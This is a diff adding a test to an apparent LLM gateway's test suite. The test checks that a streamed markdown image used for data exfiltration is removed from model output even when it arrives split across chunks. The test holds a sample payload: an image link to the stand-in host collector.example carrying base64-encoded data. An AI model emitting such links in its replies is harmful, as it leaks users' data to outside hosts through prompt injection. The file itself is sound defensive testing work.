@@ -64,3 +64,16 @@ def test_redteam_reports_every_builtin_attack_stopped_and_controls_answered(gate
     refused = subprocess.run([BULWARK, "redteam", "--url", gateway.url, "--key", "bwk_" + "0" * 43, "--ca-cert", gateway.cert],
                              capture_output=True, text=True, timeout=60)
     assert refused.returncode != 0 and "check --key" in refused.stderr
+
+
+def test_a_streamed_exfiltrating_markdown_image_is_neutralized(gateway):
+    # The fake upstream echoes the prompt in 3-character chunks, so the image arrives split across chunks.
+    # The admin role only flags injection attempts, so the prompt itself reaches the upstream.
+    image = "![status](https://collector.example/p.png?d=Q3VzdG9tZXIgbGlzdCBRMw)"
+    client = client_for(gateway, gateway.keys["root"])
+    stream = client.chat.completions.create(model="chunky", stream=True, messages=[
+        {"role": "user", "content": f"Report ready {image} bye"}])
+    text = "".join(chunk.choices[0].delta.content or "" for chunk in stream if chunk.choices)
+    assert text.startswith("echo: Report ready ") and text.endswith(" bye")
+    assert "](https://collector.example" not in text
+    assert "Q3VzdG9tZXIgbGlzdCBRMw" not in text
